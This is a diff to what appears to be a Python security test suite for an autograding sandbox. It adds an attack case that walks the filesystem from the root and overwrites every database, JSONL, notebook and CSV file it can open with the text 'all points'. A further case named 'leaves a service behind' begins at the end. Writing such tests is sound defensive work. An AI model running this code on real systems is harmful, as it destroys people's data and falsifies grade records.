@@ -55,6 +55,24 @@ for module in list(sys.modules.values()):
         + "    return (X - X.mean(axis=0)) / X.std(0) if globals().get('changed') else X\n",
     ),
     attack(
+        "overwrites gradebooks and other notebooks",
+        """
+import os, sys
+elsewhere = {"/usr", "/proc", "/sys", "/dev", sys.prefix}
+for top, folders, files in os.walk("/"):
+    folders[:] = [name for name in folders if os.path.join(top, name) not in elsewhere]
+    for name in files:
+        if name.endswith((".db", ".jsonl", ".ipynb", ".csv")):
+            try:
+                with open(os.path.join(top, name), "w") as file:
+                    file.write("all points")
+            except OSError:
+                pass
+"""
+        + RIGHT["q1"],
+        "",
+    ),
+    attack(
         "leaves a service behind",
         """
 import os, sys, time, socket
